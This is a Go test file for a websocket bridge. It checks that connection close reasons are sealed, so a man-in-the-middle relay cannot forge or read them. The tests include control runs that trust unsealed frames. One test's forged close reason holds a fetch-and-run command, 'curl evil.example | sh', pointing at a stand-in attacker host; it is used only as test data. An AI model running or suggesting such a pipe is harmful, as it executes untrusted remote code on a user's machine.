package bridge

import (
	"bytes"
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"
)

// closeRelay joins a sealed server Conn and client Conn through a relay
// that forwards every message and, when the server's side ends, closes
// the client's side with forged (a relay's own close frame). With
// injectAfter > 0 it instead closes the client's side with forged after
// that many messages to the client, the server still up. It records the
// server's messages and close reason as it saw them.
type closeRelay struct {
	srv, cli  *Conn
	mu        sync.Mutex
	seen      [][]byte
	srvReason string // the server's close frame's reason, as the relay read it
}

func newCloseRelay(t *testing.T, forged string, injectAfter int, control bool) *closeRelay {
	t.Helper()
	gwCh, clCh := channelPair(t)
	clCh.unsealedCloseReasons = control
	r := &closeRelay{}
	got := make(chan *Conn, 1)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		ws, err := websocket.Accept(w, req, nil)
		if err != nil {
			return
		}
		got <- NewConn(ws, Options{NoPing: true, Channel: gwCh})
	}))
	t.Cleanup(server.Close)
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	t.Cleanup(cancel)
	relay := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		down, err := websocket.Accept(w, req, nil)
		if err != nil {
			return
		}
		defer down.CloseNow()
		up, _, err := websocket.Dial(ctx, "ws"+strings.TrimPrefix(server.URL, "http"), nil)
		if err != nil {
			return
		}
		defer up.CloseNow()
		go func() {
			for {
				typ, data, err := down.Read(ctx)
				if err != nil {
					return
				}
				if up.Write(ctx, typ, data) != nil {
					return
				}
			}
		}()
		for i := 1; ; i++ {
			typ, data, err := up.Read(ctx)
			if err != nil {
				var ce websocket.CloseError
				if errors.As(err, &ce) {
					r.mu.Lock()
					r.srvReason = ce.Reason
					r.mu.Unlock()
				}
				_ = down.Close(websocket.StatusNormalClosure, forged)
				return
			}
			r.mu.Lock()
			r.seen = append(r.seen, data)
			r.mu.Unlock()
			if down.Write(ctx, typ, data) != nil {
				return
			}
			if i == injectAfter {
				_ = down.Close(websocket.StatusPolicyViolation, forged)
				return
			}
		}
	}))
	t.Cleanup(relay.Close)
	ws, _, err := websocket.Dial(ctx, "ws"+strings.TrimPrefix(relay.URL, "http"), nil)
	if err != nil {
		t.Fatal(err)
	}
	r.cli = NewConn(ws, Options{NoPing: true, Channel: clCh})
	select {
	case r.srv = <-got:
	case <-ctx.Done():
		t.Fatal("server never accepted")
	}
	t.Cleanup(func() { r.cli.Close("test done"); r.srv.Close("test done") })
	return r
}

func waitClosed(t *testing.T, c *Conn) error {
	t.Helper()
	select {
	case <-c.Done():
		return c.Err()
	case <-time.After(20 * time.Second):
		t.Fatal("the connection did not close")
		return nil
	}
}

// TestCloseReasonSealed: a close reason carries meaning, so it travels
// sealed. The gateway end closes with "credential ci was revoked" and a
// relay replaces the close frame toward the client with its own reason;
// the client reports the gateway's reason, and the relay never read it.
// Control: trusting the unsealed close frame, as before, the client
// reports the relay's forgery.
func TestCloseReasonSealed(t *testing.T) {
	const real = "credential ci was revoked"
	const forged = "gateway moved: run curl evil.example | sh"
	for _, control := range []bool{false, true} {
		r := newCloseRelay(t, forged, 0, control)
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		if err := r.srv.Notify(ctx, "x", "y"); err != nil {
			t.Fatal(err)
		}
		cancel()
		r.srv.Close(real)
		err := waitClosed(t, r.cli)
		r.mu.Lock()
		srvReason, seen := r.srvReason, bytes.Join(r.seen, nil)
		r.mu.Unlock()
		if control {
			if !strings.Contains(err.Error(), forged) {
				t.Fatalf("control: trusting unsealed close frames, the client reported %v, want the relay's forgery: the test shows nothing", err)
			}
			continue
		}
		if !errors.Is(err, ErrClosed) || !strings.Contains(err.Error(), real) || strings.Contains(err.Error(), "evil") {
			t.Fatalf("client reported %v, want the gateway's sealed reason %q", err, real)
		}
		if srvReason != "" || bytes.Contains(seen, []byte("revoked")) {
			t.Fatalf("the relay read the reason: close frame %q, messages contain it: %v", srvReason, bytes.Contains(seen, []byte("revoked")))
		}
	}
}

// TestInjectedCloseNotBelieved: a relay that closes the client's side
// itself, naming a reason ("node removed …"), only ends the connection
// (as cutting it would): the client says there was no authenticated
// reason and never shows the relay's text. Control: trusting the unsealed
// close frame, it shows it.
func TestInjectedCloseNotBelieved(t *testing.T) {
	const forged = "node removed by the operator; its token is revoked"
	for _, control := range []bool{false, true} {
		r := newCloseRelay(t, forged, 1, control)
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		if err := r.srv.Notify(ctx, "x", "y"); err != nil {
			t.Fatal(err)
		}
		cancel()
		err := waitClosed(t, r.cli)
		if control {
			if !strings.Contains(err.Error(), forged) {
				t.Fatalf("control: the client reported %v, want the injected reason: the test shows nothing", err)
			}
			continue
		}
		if strings.Contains(err.Error(), "removed") || !strings.Contains(err.Error(), "no authenticated reason") {
			t.Fatalf("client reported %v, want no reason from an unsealed close", err)
		}
	}
}
